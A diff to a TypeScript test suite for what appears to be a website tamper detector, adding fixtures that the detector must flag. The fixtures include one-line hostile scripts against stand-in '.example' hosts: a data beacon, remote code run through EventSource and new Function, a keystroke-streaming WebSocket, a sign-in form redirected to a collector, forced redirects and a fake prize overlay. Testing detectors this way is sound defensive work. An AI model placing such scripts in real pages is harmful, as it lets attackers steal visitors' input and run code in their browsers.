@@ -21,7 +21,7 @@ interface Hostile {
   readonly own?: string;
   readonly answers?: Widget['answers'];
   readonly level: Verdict['level'];
-  /** Cues that must have spoken. */
+  /** Cues, or detectors without any, that must have spoken. */
   readonly cues: readonly string[];
   readonly click?: 'ground' | 'layer';
 }
@@ -52,6 +52,17 @@ const hostile: Readonly<Record<string, Hostile>> = {
     level: 'alarm',
     cues: ['talks-away.made-code', 'code-made.first'],
   },
+  'a beacon by the portal’s own script to a new host': {
+    own: `navigator.sendBeacon('https://dem.la.example/b', JSON.stringify({ trang: location.pathname }))`,
+    level: 'clean',
+    cues: ['hosts-contacted.sent'],
+  },
+  'code that comes with an event stream': {
+    own: `new EventSource('https://luong.la.example/s').onmessage = ({ data }) => new Function(data)()`,
+    answers: { 'luong.la.example/s': 'data: document.body.dataset.run = document.cookie.length\n\n' },
+    level: 'alarm',
+    cues: ['talks-away.made-code', 'code-made.first'],
+  },
   'what people type sent over a WebSocket': {
     markup: script(
       `const w = new WebSocket('wss://dem.la.example/s'); document.addEventListener('input', (e) => w.send(JSON.stringify({ n: e.target.name, v: e.target.value })), true)`,
@@ -75,6 +86,35 @@ const hostile: Readonly<Record<string, Hostile>> = {
     answers: { 'khung.la.example/': '<h1>Nhà cái</h1>' },
     level: 'alarm',
     cues: ['planted-elements.cover'],
+  },
+  'links to strangers that the portal’s own script adds beyond the edge': {
+    own: `const d = document.createElement('div'); d.style.cssText = 'position:absolute;left:-9999px'; d.innerHTML = ['mot', 'hai', 'ba', 'bon'].map((n) => '<a href="https://' + n + '-la.example/">' + n + '</a>').join(' '); document.body.append(d)`,
+    level: 'alarm',
+    cues: ['links-added.learned.much-hidden', 'links-added.learned.hidden-flock'],
+  },
+  'a layer by the portal’s own script whose button leads to strangers': {
+    own: `const d = document.createElement('div'); d.style.cssText = 'position:fixed;inset:0;background:#fff;z-index:9999'; d.innerHTML = '<h2>Chúc mừng quý khách đã được chọn nhận quà tri ân</h2><a href="https://qua-tang.example/nhan">Nhận quà</a>'; document.body.append(d)`,
+    click: 'layer',
+    // An alarm in use, where the picture counts too; here only behaviour and markup do.
+    level: 'suspect',
+    cues: ['covering-layer.foreign-links'],
+  },
+  'visitors led away as soon as the page is open': {
+    own: `setTimeout(() => { location.href = 'https://dich.la.example/' }, 300)`,
+    answers: { 'dich.la.example/': '<h1>Trang khác</h1>' },
+    level: 'alarm',
+    cues: ['foreign-redirect'],
+  },
+  'visitors led away at the first click anywhere': {
+    own: `addEventListener('click', () => { location.href = 'https://dich.la.example/' })`,
+    click: 'ground',
+    level: 'alarm',
+    cues: ['windows-opened.by-click'],
+  },
+  'a box that must be answered': {
+    own: `alert('Trình duyệt của bạn đã hết hạn, nhấn OK để tiếp tục')`,
+    level: 'suspect',
+    cues: ['dialog-shown.first'],
   },
   'a window that opens by itself': {
     own: `window.open('https://quang-cao.example/pop')`,
@@ -112,6 +152,11 @@ const hostile: Readonly<Record<string, Hostile>> = {
     level: 'alarm',
     cues: ['hosts-contacted.script', 'rights-asked.notifications', 'rights-asked.service-worker'],
   },
+  'notifications asked for by the portal’s own script': {
+    own: `navigator.serviceWorker.register('/sw.js').catch(() => {}); Notification.requestPermission()`,
+    level: 'suspect',
+    cues: ['rights-asked.notifications', 'rights-asked.service-worker'],
+  },
   'a sign-in form turned to a stranger': {
     own: `document.getElementById('dn').action = 'https://thu-thap.example/luu'`,
     level: 'alarm',
@@ -129,6 +174,8 @@ const hostile: Readonly<Record<string, Hostile>> = {
   },
 };
 
+/** The matrix as measured, printed at the end for docs/measurements.md. */
+const rows: string[][] = [];
 let hosts: NamedHosts;
 let plain: Baseline;
 
@@ -146,11 +193,13 @@ function answer({ host, pathname, searchParams }: URL) {
   const isMarkup = /^\s*</.test(body);
   const type = isMarkup
     ? 'text/html'
-    : body.startsWith('@')
-      ? 'text/css'
-      : body === '{}'
-        ? 'application/json'
-        : 'text/javascript';
+    : body.startsWith('data: ')
+      ? 'text/event-stream'
+      : body.startsWith('@')
+        ? 'text/css'
+        : body === '{}'
+          ? 'application/json'
+          : 'text/javascript';
   return { type: `${type}; charset=utf-8`, body };
 }
 const answers = new Map(
@@ -163,13 +212,17 @@ const seen = async (name: string, click: 'ground' | 'layer' = 'ground'): Promise
 };
 const judged = (look: Look, baseline: Baseline): Verdict =>
   assess({ targetUrl: home, at: 9, baseline, ignored: [] }, { looks: [look], failures: [] }, testPolicy).verdict;
-const cuesOf = ({ findings }: Verdict) => findings.flatMap(({ cues = [], score }) => (score > 0 ? cues : []));
+const cuesOf = ({ findings }: Verdict) =>
+  findings.flatMap(({ cues = [], detector, score }) => (score > 0 ? (cues.length > 0 ? cues : [detector]) : []));
 
 beforeAll(async () => {
   hosts = await serveNamedHosts(answer);
   plain = learned([await seen(''), await seen('')]);
 });
-afterAll(() => hosts.close());
+afterAll(async () => {
+  console.log(rows.map((row) => `| ${row.join(' | ')} |`).join('\n'));
+  await hosts.close();
+});
 
 it('the portal as it is learned is quiet', async () => {
   const verdict = judged(await seen(''), plain);
@@ -179,6 +232,7 @@ it('the portal as it is learned is quiet', async () => {
 describe('hostile', () => {
   it.each(Object.entries(hostile))('%s', async (name, { level, cues, click }) => {
     const verdict = judged(await seen(name, click), plain);
+    rows.push([name, `${verdict.level} ${verdict.score}`, cuesOf(verdict).join(', ')]);
     expect(cuesOf(verdict)).toEqual(expect.arrayContaining([...cues]));
     expect([verdict.level, verdict.score]).toEqual([level, expect.any(Number)]);
   });
@@ -191,6 +245,7 @@ describe('ordinary', () => {
     // Spam by push comes just so: only one that was there before is ordinary.
     if (name !== 'push opt-in') expect(['clean', 'suspect']).toContain(verdict.level);
     const again = judged(await seen(name), acceptLook(plain, look, 2));
+    rows.push([`widget: ${name}`, `${verdict.level} ${verdict.score}`, cuesOf(verdict).join(', ')]);
     expect([again.level, cuesOf(again)]).toEqual(['clean', []]);
   });
 });
